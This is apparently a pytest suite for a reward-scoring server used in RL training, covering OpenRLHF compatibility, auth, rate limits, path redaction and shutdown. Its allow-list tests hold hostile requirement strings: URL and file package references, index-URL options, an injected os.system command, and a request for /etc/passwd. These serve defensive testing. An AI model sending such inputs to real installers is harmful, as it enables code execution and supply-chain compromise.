"""Reward server promises, over real HTTP on loopback: OpenRLHF's protocol, our typed API, bad input, overload,
the API key, the requirement allow-list, no host paths in replies, and SIGTERM in the middle of a batch."""

from __future__ import annotations

import asyncio
import json
import logging
import os
import signal
import sys
import time
from pathlib import Path

import httpx
import pytest
from pydantic import ValidationError

pytest.importorskip("fastapi")

from reward_server_helpers import RunningServer, ServerProcess, SlowVerifier, still_alive

from loong_env.cli import main as loong_main
from loong_env.integrations.redact import HostPaths
from loong_env.integrations.reward_auth import (
    API_KEY_ENV,
    OPEN_ROUTES,
    is_loopback,
    presented_key,
    resolve_api_key,
    warn_if_open,
)
from loong_env.integrations.reward_scoring import RewardScorer, ScoringConfig, response_from_query
from loong_env.integrations.reward_server import ServerConfig, create_app
from loong_env.integrations.trl import to_grpo_dataset
from loong_env.routing import VerifierRouter
from loong_env.sandbox import cache_root
from loong_env.seeds.dataset import load_seeds
from loong_env.types import AnswerKey

pytestmark = pytest.mark.timeout(180)

PROMPT = "<|im_start|>user\nWhat is 6 * 7? Put your final answer within \\boxed{}.<|im_end|>\n<|im_start|>assistant\n"
CODE = "```python\nprint(sum(range(10)))\n```"


@pytest.fixture(scope="module")
def server():
    running = RunningServer(create_app(ServerConfig(max_body_bytes=64 * 1024,
                                                    scoring=ScoringConfig(max_batch=64)))).start()
    yield running
    running.stop()


@pytest.fixture(scope="module")
def client(server):
    with httpx.Client(base_url=server.url, timeout=120) as c:
        yield c


def test_health_reports_ok_and_the_limits(client):
    body = client.get("/health").json()
    assert body["status"] == "ok" and body["pending_items"] == 0
    assert body["max_batch"] == 64 and body["max_pending_items"] == ScoringConfig().max_pending_items


def test_openapi_documents_both_endpoints_with_typed_models(client):
    spec = client.get("/openapi.json").json()
    assert {"/v1/score", "/get_reward", "/health"} <= set(spec["paths"])
    item = spec["components"]["schemas"]["ScoreItem"]
    assert {"response", "reference"} <= set(item["required"]) and "error" not in item["properties"]
    assert "ScoreResponse" in spec["components"]["schemas"] and "OpenRLHFResponse" in spec["components"]["schemas"]


def test_openrlhf_payload_gets_rewards_scores_and_numeric_extra_logs(client):
    queries = [PROMPT + "6*7 = 42, so \\boxed{42}<|im_end|>", PROMPT + "\\boxed{41}<|im_end|>",
               PROMPT + "I think it is 42.<|im_end|>"]
    payload = {"query": queries, "prompts": [PROMPT] * 3, "labels": ["42", "42", "42"]}
    reply = client.post("/get_reward", json=payload)
    assert reply.status_code == 200
    body = reply.json()
    assert body["rewards"] == [1.0, 0.0, 0.0] and body["scores"] == body["rewards"]
    assert set(body["extra_logs"]) == {"correct", "well_formatted", "verifier_error"}
    for values in body["extra_logs"].values():  # OpenRLHF turns every extra log into a tensor
        assert len(values) == 3 and all(isinstance(v, float) for v in values)
    assert [d["status"] for d in body["details"]] == ["correct", "incorrect", "no_answer"]


def test_openrlhf_verdicts_equal_the_in_process_router(client):
    answers = ["\\boxed{\\frac{1}{2}}", "\\boxed{0.5}", "\\boxed{2/4}", "\\boxed{1/3}", "no box", CODE]
    references = ["1/2", "1/2", "0.5", "0.5", "1/2", "45"]
    payload = {"query": [PROMPT + a for a in answers], "prompts": [PROMPT] * len(answers), "labels": references}
    served = client.post("/get_reward", json=payload).json()

    async def in_process() -> list[float]:
        router = VerifierRouter()
        verdicts = await asyncio.gather(*(router.judge(a, AnswerKey(reference=r)) for a, r in zip(answers, references)))
        return [v.reward for v, _ in verdicts]

    assert served["rewards"] == asyncio.run(in_process())
    assert served["details"][-1]["verifier"] == "python"  # a code answer ran in the sandbox


def test_openrlhf_labels_route_per_domain_through_json_keys(client):
    label = json.dumps({"reference": "14.7 m/s", "domain": "physics"})  # physics' plug-in judges units
    payload = {"query": ["\\boxed{52.92 km/h}", "\\boxed{14.7 m}"], "prompts": ["", ""], "labels": [label, label]}
    body = client.post("/get_reward", json=payload).json()
    assert body["rewards"] == [1.0, 0.0]
    assert {d["verifier"] for d in body["details"]} == {"physics_units"}


def test_the_label_column_of_our_datasets_is_an_openrlhf_label(client):
    rows = to_grpo_dataset(load_seeds("physics"), 3, seed=0)
    payload = {"query": [r["prompt"] + f" so \\boxed{{{r['answer']}}}" for r in rows],
               "prompts": list(rows["prompt"]), "labels": list(rows["label"])}
    body = client.post("/get_reward", json=payload).json()
    assert body["rewards"] == [1.0, 1.0, 1.0]
    assert {d["verifier"] for d in body["details"]} == {"physics_units"}


def test_openrlhf_bad_items_score_zero_with_a_reason_and_the_rest_are_scored(client):
    payload = {"query": ["\\boxed{7}", 12, "\\boxed{7}", "\\boxed{7}"], "prompts": None,
               "labels": ["7", "7", None, "{\"reference\": \"7\", \"bogus\": 1}"]}
    body = client.post("/get_reward", json=payload).json()
    assert body["rewards"] == [1.0, 0.0, 0.0, 0.0]
    reasons = [d["reason"] for d in body["details"][1:]]
    assert "must be a string" in reasons[0] and "missing" in reasons[1] and "bogus" in reasons[2]
    assert body["extra_logs"]["verifier_error"] == [0.0, 1.0, 1.0, 1.0]


def test_response_is_cut_after_the_prompt_in_the_query():
    assert response_from_query(PROMPT + "\\boxed{1}", PROMPT) == "\\boxed{1}"
    assert response_from_query("no prompt here \\boxed{1}", "other") == "no prompt here \\boxed{1}"


def test_our_api_scores_a_typed_batch_and_echoes_ids(client):
    items = [
        {"id": "a", "response": "\\boxed{3.1416}", "reference": "3.14159", "tolerance": {"rel": 1e-3}},
        {"id": 7, "response": "\\boxed{3.2}", "reference": 3.14159, "tolerance": 0.001},
        {"id": "code", "response": CODE, "reference": "45"},
        {"id": "fmt", "response": "\\boxed{1} or \\boxed{2}", "reference": "2"},
    ]
    body = client.post("/v1/score", json={"items": items, "format_weight": 0.5}).json()
    assert [r["id"] for r in body["results"]] == ["a", 7, "code", "fmt"]
    assert [r["correctness"] for r in body["results"]] == [1.0, 0.0, 1.0, 1.0]
    assert [r["well_formatted"] for r in body["results"]] == [True, True, True, False]
    assert [r["reward"] for r in body["results"]] == [1.5, 0.5, 1.5, 1.0]
    assert body["n"] == 4 and body["correct"] == 3 and body["invalid"] == 0


def test_our_api_malformed_items_score_zero_and_never_fail_the_batch(client):
    items = [
        {"id": 1, "response": "\\boxed{5}", "reference": "5"},
        {"id": 2, "response": 5, "reference": "5"},
        {"id": 3, "response": "\\boxed{5}"},
        {"id": 4, "response": "\\boxed{5}", "reference": "5", "tolerance": {"rel": -1}},
        {"id": 5, "response": "\\boxed{5}", "reference": "5", "extra": True},
        "not an object",
        {"id": 7, "response": "\\boxed{5}", "reference": "5", "verifier": "no_such_plugin"},
    ]
    reply = client.post("/v1/score", json={"items": items})
    assert reply.status_code == 200
    body = reply.json()
    assert [r["reward"] for r in body["results"]] == [1.0, 0, 0, 0, 0, 0, 0]
    assert [r["status"] for r in body["results"][:6]] == ["correct"] + ["invalid"] * 5
    assert body["results"][6]["status"] == "error" and "no_such_plugin" in body["results"][6]["reason"]
    assert all(r["reason"] for r in body["results"][1:])
    assert body["invalid"] == 5 and body["errors"] == 1


def test_malformed_envelope_is_a_422_naming_the_field(client):
    reply = client.post("/v1/score", json={"itemz": []})
    assert reply.status_code == 422 and "items" in reply.text
    assert client.post("/get_reward", content=b"{not json", headers={"content-type": "application/json"}
                       ).status_code == 422


def test_batch_over_max_batch_is_413(client):
    items = [{"response": "\\boxed{1}", "reference": "1"}] * 65
    reply = client.post("/v1/score", json={"items": items})
    assert reply.status_code == 413 and "at most 64" in reply.json()["detail"]


def test_body_over_the_limit_is_413_with_or_without_content_length(client):
    big = {"query": ["x" * 70_000], "prompts": [""], "labels": ["1"]}
    assert client.post("/get_reward", json=big).status_code == 413

    def chunks():
        data = json.dumps(big).encode()
        for i in range(0, len(data), 8192):
            yield data[i:i + 8192]

    reply = client.post("/get_reward", content=chunks(), headers={"content-type": "application/json"})
    assert reply.status_code == 413 and "limit" in reply.json()["detail"]


def test_overload_answers_429_at_once_and_the_admitted_batch_still_completes():
    scorer = RewardScorer(ScoringConfig(max_pending_items=4, route=False), verifier=SlowVerifier(1.0))
    running = RunningServer(create_app(scorer=scorer)).start()
    items = {"items": [{"response": "1", "reference": "1"}] * 3}

    async def burst():
        async with httpx.AsyncClient(base_url=running.url, timeout=30) as c:
            first = asyncio.create_task(c.post("/v1/score", json=items))
            while scorer.pending_items < 3:  # wait until the first batch is admitted and verifying
                await asyncio.sleep(0.01)
            second = await c.post("/v1/score", json=items)
            first_done_before_second = first.done()
            return await first, second, first_done_before_second

    try:
        first, second, first_done_before_second = asyncio.run(burst())
    finally:
        running.stop()
    assert first.status_code == 200 and first.json()["correct"] == 3
    assert second.status_code == 429 and second.headers["retry-after"] == "1"
    assert "busy" in second.json()["detail"]
    assert not first_done_before_second  # answered while the first batch verified, not queued behind it


def test_a_request_past_its_deadline_is_503_not_a_hang():
    scorer = RewardScorer(ScoringConfig(request_timeout_s=0.5, route=False), verifier=SlowVerifier(30.0))
    running = RunningServer(create_app(scorer=scorer)).start()
    try:
        with httpx.Client(base_url=running.url, timeout=20) as c:
            reply = c.post("/get_reward", json={"query": ["1"], "prompts": [""], "labels": ["1"]})
            health = c.get("/health").json()
    finally:
        running.stop()
    assert reply.status_code == 503 and reply.headers["retry-after"] == "1"
    assert "not scored within 0.5 s" in reply.json()["detail"]
    assert health["pending_items"] == 0  # the cancelled items were released


def test_serve_reward_cli_rejects_impossible_limits(capsys):
    assert loong_main(["serve-reward", "--max-batch", "0"]) == 2
    assert "max_batch" in capsys.readouterr().err


# -- who may call ------------------------------------------------------------------------------------------

KEY = "test-key-7f3a9c2e1b5d4a6f"


@pytest.fixture(scope="module")
def keyed():
    app = create_app(ServerConfig(api_key=KEY, scoring=ScoringConfig(max_batch=64)))
    running = RunningServer(app).start()
    yield running, app
    running.stop()


def scoring_routes(app) -> list[tuple[str, str]]:
    """(method, path) of every API route but the open ones: a route added later is covered by default."""
    from fastapi.routing import APIRoute

    routes = [(m, r.path) for r in app.routes if isinstance(r, APIRoute) for m in r.methods]
    return sorted((m, p) for m, p in routes if p not in OPEN_ROUTES)


def test_with_a_key_every_scoring_route_answers_401_without_it_or_with_a_wrong_one(keyed):
    running, app = keyed
    routes = scoring_routes(app)
    assert {("POST", "/v1/score"), ("POST", "/get_reward")} <= set(routes)
    with httpx.Client(base_url=running.url, timeout=60) as c:
        for method, path in routes:
            for headers in ({}, {"Authorization": "Bearer wrong-key-000000000000"},
                            {"Authorization": f"Bearer {KEY}x"}, {"Authorization": KEY},
                            {"Authorization": "Basic !!!notbase64"}):
                reply = c.request(method, path, json={}, headers=headers)
                assert reply.status_code == 401, (method, path, headers, reply.text)
                assert reply.headers["www-authenticate"] == "Bearer"
                assert "API key" in reply.json()["detail"] and KEY not in reply.text
            # with the key, the same request gets past the door (to the body's validation)
            assert c.request(method, path, json={}, headers={"Authorization": f"Bearer {KEY}"}).status_code == 422
        assert c.get("/health").status_code == 200  # health stays open


def test_the_key_works_as_bearer_and_as_basic_auth_in_a_url_as_trainers_send_it(keyed):
    running, _ = keyed
    payload = {"query": ["\\boxed{42}"], "prompts": [""], "labels": ["42"]}
    bearer = httpx.post(f"{running.url}/get_reward", json=payload, headers={"Authorization": f"Bearer {KEY}"})
    # OpenRLHF posts with `requests` to --reward.remote_url: credentials in the URL become Basic auth.
    import requests

    host = running.url.removeprefix("http://")
    in_url = requests.post(f"http://loong:{KEY}@{host}/get_reward", json=payload, timeout=60)
    as_user = requests.post(f"http://{KEY}:@{host}/get_reward", json=payload, timeout=60)
    assert [r.status_code for r in (bearer, in_url, as_user)] == [200, 200, 401]  # the key is the password
    assert in_url.json()["rewards"] == [1.0]


def test_keys_are_read_from_the_environment_checked_for_shape_and_never_shown(monkeypatch):
    monkeypatch.setenv(API_KEY_ENV, f"  {KEY}\n")
    assert resolve_api_key(None) == KEY and resolve_api_key("another-key-0123456789") == "another-key-0123456789"
    monkeypatch.setenv(API_KEY_ENV, "")
    assert resolve_api_key(None) is None
    for bad in ("short", "has a space in it 0123456789", "ключ-0123456789abcdef"):
        with pytest.raises(ValueError, match="printable ASCII"):
            resolve_api_key(bad)
    config = ServerConfig(api_key=KEY)
    assert KEY not in repr(config) and KEY not in str(config)
    assert ServerConfig.model_validate_json(config.model_dump_json()).key() == KEY  # travels to workers
    assert presented_key("Bearer abc") == "abc" and presented_key("bearer  abc ") == "abc"
    assert presented_key(None) is None and presented_key("Token abc") is None


def test_the_key_never_reaches_the_logs(keyed, caplog):
    running, _ = keyed
    caplog.set_level(logging.DEBUG)
    with httpx.Client(base_url=running.url, timeout=60) as c:
        c.post("/v1/score", json={"items": []}, headers={"Authorization": f"Bearer {KEY}"})
        c.post("/v1/score", json={"items": []}, headers={"Authorization": f"Bearer {KEY}-wrong"})
    assert KEY not in caplog.text


def test_without_a_key_only_loopback_binds(monkeypatch, capsys, caplog):
    monkeypatch.delenv(API_KEY_ENV, raising=False)
    assert is_loopback("127.0.0.1") and is_loopback("::1") and is_loopback("localhost") and is_loopback("127.8.0.1")
    assert not is_loopback("0.0.0.0") and not is_loopback("::") and not is_loopback("10.0.0.5")
    assert not is_loopback("my-host.example")
    for host in ("0.0.0.0", "::", "192.168.1.10"):
        with pytest.raises(ValidationError, match=API_KEY_ENV):
            ServerConfig(host=host)
    assert ServerConfig(host="0.0.0.0", api_key=KEY).host == "0.0.0.0"
    assert ServerConfig(host="0.0.0.0", insecure=True).insecure
    # the CLI refuses before binding anything, and says how to set a key
    assert loong_main(["serve-reward", "--host", "0.0.0.0", "--port", "1"]) == 2
    err = capsys.readouterr().err
    assert "--api-key" in err and API_KEY_ENV in err and "--insecure" in err
    # --insecure is allowed, and said loudly
    with caplog.at_level(logging.WARNING):
        warn_if_open("0.0.0.0", 5000, api_key=None)
        warn_if_open("0.0.0.0", 5000, api_key=KEY)
        warn_if_open("127.0.0.1", 5000, api_key=None)
    assert caplog.text.count("INSECURE") == 1 and "WITHOUT an API key" in caplog.text


def test_ray_serve_refuses_a_keyless_proxy_beyond_loopback_before_touching_the_cluster():
    from loong_env.distributed.serve import ServeOptions, serve_rewards
    from loong_env.errors import ConfigError

    with pytest.raises(ConfigError, match=API_KEY_ENV):
        serve_rewards(ServerConfig(), ServeOptions(host="0.0.0.0"), address="127.0.0.1:1")


def test_loong_serve_the_model_server_has_no_host_option_it_stays_on_loopback():
    from loong_env.local.server import LocalServer

    with pytest.raises(SystemExit):
        loong_main(["serve", "--host", "0.0.0.0"])
    import inspect

    source = inspect.getsource(LocalServer)
    assert 'params.hostnames = ["127.0.0.1"]' in source  # llama.cpp listens on loopback only


# -- what a caller may make the server install ----------------------------------------------------------

HOSTILE_REQUIREMENTS = [
    ["six==1.16.0"],                                           # a real, pinned package nobody allowed
    ["evil @ https://example.invalid/evil-1.0-py3-none-any.whl"],  # a URL reference
    ["evil @ file:///tmp/evil"],                               # a file reference
    ["pint==0.24.4", "six==1.16.0"],                           # the domain's set plus one
    ["--index-url=https://example.invalid/simple"],           # an installer option
    ["-e ."],
    ["numpy; __import__('os').system('touch /tmp/pwned')"],
    ["sympy==1.14.0\n--extra-index-url https://example.invalid"],
    ["x" * 20_000],
]


def _env_dirs() -> set[str]:
    envs = cache_root() / "envs"
    return set(os.listdir(envs)) if envs.is_dir() else set()


@pytest.fixture(scope="module")
def allow_listed():
    app = create_app(ServerConfig(scoring=ScoringConfig(allowed_requirements=[["SymPy==1.14.0", "numpy==2.2.6"]])))
    running = RunningServer(app).start()
    yield running
    running.stop()


def test_a_requirement_set_outside_the_domain_and_the_allow_list_is_refused_and_nothing_installed(allow_listed):
    before = _env_dirs()
    with httpx.Client(base_url=allow_listed.url, timeout=60) as c:
        for reqs in HOSTILE_REQUIREMENTS:
            item = {"response": CODE, "reference": "45", "domain": "physics", "requirements": reqs}
            reply = c.post("/v1/score", json={"items": [{"response": "\\boxed{1}", "reference": "1"}, item]})
            assert reply.status_code == 403, (reqs, reply.text)
            detail = reply.json()["detail"]
            assert "--allow-requirements" in detail and "'physics'" in detail and "sympy==1.14.0" in detail
            assert len(detail) < 2000
            label = json.dumps({"reference": "45", "requirements": reqs})
            reply = c.post("/get_reward", json={"query": [CODE], "prompts": [""], "labels": [label]})
            assert reply.status_code == 403 and "labels[0]" in reply.json()["detail"]
    assert _env_dirs() == before


def test_the_domain_set_and_allow_listed_sets_are_accepted(allow_listed):
    items = [
        {"id": "domain", "response": "\\boxed{14.7 m/s}", "reference": "14.7 m/s", "domain": "physics",
         "requirements": ["Pint==0.24.4"]},                                   # the domain's own set
        {"id": "listed", "response": "\\boxed{2}", "reference": "2", "requirements": ["numpy==2.2.6", "sympy==1.14.0"]},
        {"id": "none", "response": "\\boxed{2}", "reference": "2", "domain": "advanced_math"},
    ]
    reply = httpx.post(f"{allow_listed.url}/v1/score", json={"items": items}, timeout=60)
    assert reply.status_code == 200 and reply.json()["correct"] == 3


def test_the_cli_takes_allow_listed_sets():
    config = ScoringConfig(allowed_requirements=[["SymPy == 1.14.0", "numpy==2.2.6"]])
    assert config.allowed_requirements == (("numpy==2.2.6", "sympy==1.14.0"),)
    with pytest.raises(ValidationError, match="invalid requirement"):
        ScoringConfig(allowed_requirements=[["not a requirement!"]])


# -- no host paths in replies ---------------------------------------------------------------------------

def _host_paths() -> list[str]:
    """Folders of this machine a caller must not learn, found here independently of the server's list."""
    from uv import find_uv_bin

    paths = {str(Path(__file__).resolve().parents[1]), sys.prefix, os.path.realpath(sys.prefix),
             str(cache_root()), os.path.realpath(cache_root()), str(Path(find_uv_bin()).parent), str(Path.home())}
    return sorted(p for p in paths if len(p) > 1)


def test_no_reply_contains_a_host_path(server, keyed):
    code = [
        "import sys\nprint(sys.executable)",
        "import sys\nprint(sys.path)",
        "import os\nprint(os.getcwd(), os.path.expanduser('~'))",
        "print(open('/proc/self/cmdline').read().replace(chr(0), ' '))",
        "def f():\n    raise ValueError(open('/proc/self/cmdline').read())\nf()",
        "import loong_env",
    ]
    items = [{"response": f"```python\n{c}\n```", "reference": "1"} for c in code]
    items += [{"response": "\\boxed{1}", "reference": "1", "verifier": "no_such_plugin"},
              {"response": "\\boxed{1}", "reference": "1", "domain": "physics", "verifier": "nope"}]
    replies = []
    with httpx.Client(base_url=server.url, timeout=120) as c:
        replies.append(c.post("/v1/score", json={"items": items}))
        labels = [json.dumps({"reference": "1", "verifier": "missing_plugin"})]
        replies.append(c.post("/get_reward", json={"query": ["\\boxed{1}"], "prompts": [""], "labels": labels}))
        replies.append(c.post("/v1/score", json={"items": [{"response": "x", "reference": "1",
                                                             "requirements": ["evil @ file:///etc/passwd"]}]}))
        replies.append(c.post("/v1/score", json={"itemz": []}))
        replies.append(c.post("/v1/score", content=b"\xff", headers={"content-type": "application/json"}))
        replies += [c.get("/nope"), c.get("/health"), c.get("/openapi.json"), c.get("/docs")]
    replies.append(httpx.post(f"{keyed[0].url}/v1/score", json={"items": []}))
    texts = [r.text for r in replies]
    leaks = {p: [t[max(0, t.find(p) - 80):t.find(p) + 80] for t in texts if p in t] for p in _host_paths()}
    assert {p: v for p, v in leaks.items() if v} == {}
    joined = "\n".join(texts)
    assert "<cache>" in joined and "<plugins>" in joined  # the paths were there, and were replaced
    assert replies[0].json()["n"] == len(items)


def test_redaction_replaces_whole_paths_and_the_longest_one():
    paths = HostPaths({"/srv/app": "<checkout>", "/srv/app/.venv": "<python>", "/home/me": "<home>"})
    assert paths.redact("at /srv/app/.venv/bin/python and /srv/app/x.py") == "at <python>/bin/python and <checkout>/x.py"
    assert paths.redact('"/home/me"') == '"<home>"' and paths.redact("/home/me:/srv/app") == "<home>:<checkout>"
    assert paths.redact("/srv/apple /x/srv/app 1/srv/app") == "/srv/apple /x/srv/app 1/srv/app"


# -- SIGTERM in the middle of a batch -------------------------------------------------------------------

def test_sigterm_mid_batch_answers_the_batch_then_exits_and_leaves_no_process():
    server = ServerProcess().wait_healthy()
    slow = "```python\nimport time\ntime.sleep(1.5)\nprint(45)\n```"
    items = [{"id": i, "response": slow, "reference": "45"} for i in range(2)]
    items.append({"id": "boxed", "response": "\\boxed{7}", "reference": "7"})

    async def scenario():
        async with httpx.AsyncClient(base_url=server.url, timeout=60) as c:
            batch = asyncio.create_task(c.post("/v1/score", json={"items": items}))
            t0 = time.monotonic()
            while (await c.get("/health")).json()["pending_items"] < len(items):
                assert time.monotonic() - t0 < 30 and not batch.done()
                await asyncio.sleep(0.02)
            await asyncio.sleep(0.3)  # the code answers are running in the sandbox now
            below = server.descendants()
            os.kill(server.proc.pid, signal.SIGTERM)
            reply = await batch
            return reply, below, batch

    try:
        reply, below, _ = asyncio.run(scenario())
        assert reply.status_code == 200, reply.text
        assert reply.json()["correct"] == 3  # the batch in flight was finished, not dropped
        assert server.proc.wait(timeout=60) == 0  # exits cleanly (uvicorn re-raises SIGTERM: we exit 0)
        with pytest.raises(httpx.TransportError):
            httpx.get(f"{server.url}/health", timeout=2)
        assert below  # the sandbox workers were there ...
        deadline = time.monotonic() + 10
        while still_alive(below) and time.monotonic() < deadline:
            time.sleep(0.1)
        assert still_alive(below) == set()  # ... and are gone with the server
    finally:
        server.kill()


def test_our_client_sends_the_key_from_the_environment_and_raises_the_servers_message(keyed, monkeypatch):
    from loong_env.integrations.errors import RewardServerError
    from loong_env.integrations.reward_client import RewardClient

    running, _ = keyed
    batch = [{"id": "a", "response": "\\boxed{42}", "reference": "42"}, {"response": "\\boxed{1}", "reference": "2"}]
    monkeypatch.setenv(API_KEY_ENV, KEY)
    scored = RewardClient(running.url).score_sync(batch)
    assert [r.correctness for r in scored.results] == [1.0, 0.0] and scored.results[0].id == "a"
    monkeypatch.delenv(API_KEY_ENV)
    with pytest.raises(RewardServerError, match="401: this reward server requires an API key") as err:
        RewardClient(running.url).score_sync(batch)
    assert err.value.status == 401
    with pytest.raises(RewardServerError, match="403: .*--allow-requirements"):
        RewardClient(running.url, api_key=KEY).score_sync([{**batch[0], "requirements": ["six==1.16.0"]}])
